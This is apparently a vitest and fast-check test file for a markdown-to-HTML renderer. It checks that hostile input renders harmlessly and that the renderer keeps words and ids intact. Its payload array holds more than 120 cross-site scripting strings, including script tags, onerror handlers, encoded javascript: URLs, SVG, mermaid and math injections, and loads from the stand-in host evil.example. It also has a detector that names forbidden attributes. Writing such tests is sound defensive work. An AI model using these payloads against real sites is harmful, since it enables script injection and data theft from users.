import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { outlineMarkdown } from './outline-markdown.ts'
import { renderMarkdown } from './render-markdown.ts'
import type { RenderRequest } from './render-request.ts'
import { accountWords } from './word-accounting.ts'

/** A caller that lets everything through: the pipeline has to hold alone. */
const careless: RenderRequest = {
  link: (href) => ({ kind: 'link', href, attributes: { onclick: 'alert(1)', style: 'x', 'data-series': '"><script>' } }),
  image: (src) => ({ kind: 'image', src }),
  wikilinkLabel: (target) => target,
  bodyLine: 0,
  title: null,
}

const payloads = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</script>', '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>', '<img src=x OnErRoR=alert(1)>', '<img/src=x/onerror=alert(1)>', '<img src="x" onerror="alert(1)" ">',
  '<img src=`x` onerror=alert(1)>', '<img src="javascript:alert(1)">', '<img src="//evil.example/x.png">', '<img src="\\\\evil\\share\\x.png">',
  '<img srcset="//evil.example/x.png 2x" src=y>', '<img src=x style="background:url(//evil.example)">', '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><use href="//evil.example#x"/></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>', '<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>',
  '<svg><style>@import "//evil.example";</style></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">', '<style>*{background:url(//evil.example)}</style>', '<form action=//evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<video src=x onerror=alert(1)></video>', '<video poster=javascript:alert(1)>',
  '<audio src="javascript:alert(1)" controls>', '<body onload=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>', '<a href="java&Tab;script:alert(1)">x</a>', '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="x" target="_blank" style="position:fixed" id="&quot;onclick=alert(1)">x</a>', '<p class="&quot; onclick=&quot;alert(1)">x</p>', '<div data-background-iframe="javascript:alert(1)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<textarea><img src=x onerror=alert(1)></textarea>', '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>', '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?php echo "<img src=x onerror=alert(1)>" ?>', '<div title="\n\n<img src=x onerror=alert(1)>\n\n">',
  '<b title="a\n\n"onmouseover=alert(1)>x</b>', '</article></main><script>alert(1)</script>', '<a name=x><a href=javascript:alert(1)>y', '<p dir="rtl" lang="en" onclick>x',
  '[x](javascript:alert(1))', '[x](JAVASCRIPT:alert(1))', '[x](java\tscript:alert(1))', '[x](<java script:alert(1)>)', '[x](&#106;avascript:alert(1))', '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x](vbscript:x)', '[x](file:///etc/passwd)', '[x](//evil.example)', '[x](\\\\\\\\evil\\\\share)', '[x](/\\\\evil.example)', '[x](blob:x)',
  '<javascript:alert(1)>', '<data:text/html,x>', '[x]: javascript:alert(1)\n\n[x]', '[x](y "\\" onclick=\\"alert(1)")', '[x](y\'onclick=alert(1)\')', '[<img src=x onerror=alert(1)>](y)',
  '![x](javascript:alert(1))', '![x](data:image/svg+xml,<svg/onload=alert(1)>)', '![x](//evil.example/x.png)', '![x](\\\\\\\\evil\\\\x.png)', '![" onerror="alert(1)](x)',
  '![x](y "\\" onerror=\\"alert(1)")', '![<script>alert(1)</script>](x "<script>alert(1)</script>")', '[[javascript:alert(1)]]', '[[x|<img src=x onerror=alert(1)>]]', '[["onclick="alert(1)]]',
  '# <img src=x onerror=alert(1)> {#"onclick=alert(1)}', '# x {#a"b}', '```"><script>alert(1)</script>\nx\n```', '```js title="<script>alert(1)</script>" {1}\n<script>alert(1)</script>\n```',
  '```js" onclick="alert(1)\nx\n```', '~~~html\n<script>alert(1)</script>\n~~~', '```mermaid title="<script>"\ngraph LR\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n```',
  '```mermaid\ngraph LR\n A-->B\n style A fill:url(//evil.example),stroke:red"onload="alert(1)\n classDef x fill:expression(1)\n```', '```mermaid\nsequenceDiagram\n A->>B: </text><script>alert(1)</script>\n```',
  '$\\href{javascript:alert(1)}{x}$', '$\\htmlData{x=y}{z}$', '$\\includegraphics{//evil.example/x.png}$', '$\\text{</annotation><script>alert(1)</script>}$', '$\\style{x}{y}$', '$$\n\\url{javascript:alert(1)}\n$$',
  '$\\def\\x{\\x\\x}\\x$', '[^<script>]\n\n[^<script>]: x', '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: <img src=x onerror=alert(1)>', '^[<img src=x onerror=alert(1)>]',
  '> [!note] <img src=x onerror=alert(1)>\n> x', '> [!"onclick=alert(1)] x', '<script>\n: <img src=x onerror=alert(1)>', '| <img src=x onerror=alert(1)> |\n|:-"onclick=alert(1)|', '| a |\n|:-:|\n| <script>alert(1)</script> |',
  '- [x] <img src=x onerror=alert(1)>', 'https://evil.example/"onmouseover="alert(1)', 'www.evil.example/<script>alert(1)</script>', '~~<s onclick=alert(1)>~~', '<a href="x">[y](javascript:alert(1))</a>',
]

const elements = new Set(
  ('a abbr aside b blockquote br caption code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input kbd label li ol p pre s section ' +
    'span strong sub summary sup table tbody td th thead tr ul audio video math semantics annotation mrow mi mo mn mtext mstyle mspace msup msub mfrac ' +
    'svg g defs marker polygon polyline rect circle ellipse line path text tspan').split(' '),
)

/** Reads HTML as a browser's tokeniser does and names what must not be there. */
function dangers(html: string): string[] {
  const found: string[] = []
  let rest = html
  for (let at = rest.indexOf('<'); at >= 0; at = rest.indexOf('<')) {
    rest = rest.slice(at + 1)
    const tag = /^(\/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z][\w-]*(?:="[^"]*")?)*)\s*\/?>/.exec(rest)
    if (tag === null) {
      found.push(`not a tag: ${rest.slice(0, 40)}`)
      continue
    }
    if (!elements.has(tag[2]?.toLowerCase() ?? '')) found.push(`element ${tag[2]}`)
    for (const [, name = '', value = ''] of tag[3]?.matchAll(/\s+([a-zA-Z][\w-]*)(?:="([^"]*)")?/g) ?? []) {
      if (/^(?:on.*|style|srcset|srcdoc|action|formaction|target|name|xlink.*)$/i.test(name)) found.push(`attribute ${name}`)
      if (/^(?:href|src|poster)$/i.test(name) && !/^(?:https?:\/\/|mailto:|tel:|(?![/\\]{2})[^:]*(?:[/?#]|$))/i.test(value)) found.push(`${name} ${value}`)
      if (/url\(/i.test(value) && !/^url\(#diagram-[\w-]+\)$/.test(value) && !['alt', 'title', 'aria-label', 'href', 'src'].includes(name)) found.push(`${name} ${value}`)
    }
    rest = rest.slice(tag[0].length)
  }
  return found
}

describe('hostile input', () => {
  it.each(payloads)('is harmless: %j', (payload) => {
    for (const body of [payload, `text ${payload} text`, `> ${payload}`, `- ${payload}\n\n  more`, `<div>\n${payload}\n\n*x*\n</div>`]) {
      const { html } = renderMarkdown(body, careless)
      expect(dangers(html)).toEqual([])
    }
  })

  it('has enough payloads', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(120)
  })

  it('would be noticed', () => {
    for (const bad of ['<script>', '<img src="x" onerror="a">', '<a href="javascript:x">', '<a href="//evil">', '<p style="x">', '<b <i>', '<rect fill="url(//e)">']) {
      expect(dangers(bad)).not.toEqual([])
    }
  })

  it('is harmless in any mixture', () => {
    const pieces = [...payloads.flatMap((payload) => payload.split(/(?<=[<>"=\s])/)), '\n\n', '> ', '- ', '`', '"', "'", '<', '>', '&', '[', '](', ')', '$', '|']
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
        expect(dangers(renderMarkdown(parts.join(''), careless).html)).toEqual([])
      }),
    )
  })

  it('keeps every word of any text without raw HTML, and gives one id once', () => {
    const pieces = ['word', 'Ünïcode', '静', '# ', '## ', '> ', '> [!note] ', '- ', '1. ', '    ', '```\n', '`', '*', '**', '_', '[', '](x)', '![', '[[', ']]', '|', '\n|-|\n', '$', '$$\n', '[^1]', '\n\n[^1]: ', ': ', '\n', '\n\n', ' ', '{#id}', '~~', 'www.a.org', '\\', '---\n']
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (parts) => {
        const body = parts.join('')
        const { html, headings } = renderMarkdown(body, careless)
        const { wordsIn, wordsOut } = accountWords(body, html, careless)
        expect(wordsOut).toBe(wordsIn)
        const ids = [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id)
        expect(new Set(ids).size).toBe(ids.length)
        const outline = outlineMarkdown(body, 0)
        expect(outline.headings.map(({ id }) => id)).toEqual(headings.map(({ id }) => id))
        expect(ids.toSorted()).toEqual(outline.anchors.toSorted())
      }),
    )
  })

  it.each([
    ['emphasis', '*a_ ', 5000], ['brackets', '[', 10_000], ['pictures', '![', 10_000], ['quotes', '> ', 10_000], ['backticks', '` `` ``` ', 2000],
    ['dollars', '$a ', 8000], ['blocks of math', '$$a\n', 8000], ['escaped dollars', '$\\', 10_000], ['wikilinks', '[[a', 8000], ['open tags', '<a b="', 5000],
    ['elements', '<b>', 5000], ['comments', '<!-- ', 5000], ['scripts', '<div><script>', 2000], ['footnotes', '[^a]', 4000], ['inline notes', '^[', 8000],
    ['callouts', '> [!note] x\n> y\n\n', 1000], ['terms', 'a\n: b\n', 3000], ['rows', '| a | b |\n|-|-|\n', 2000], ['headings', '# a\n', 4000],
    ['heading ids', '# a {#', 4000], ['addresses', 'https://a.b/((', 2000], ['mail', 'a@', 8000], ['entities', '&a;&#', 5000], ['definitions', '[a]: b\n', 4000],
    ['braces', '${', 5000], ['code', '```ts\n/*`${', 2000], ['info strings', '```js title="', 2000],
  ])('comes to an end with many %s', (_, piece, times) => {
    const body = `${piece.repeat(times)}\n\n[^a]: x`
    expect(dangers(renderMarkdown(body, careless).html)).toEqual([])
    expect(outlineMarkdown(body, 0).anchors).toBeInstanceOf(Array)
  })
})
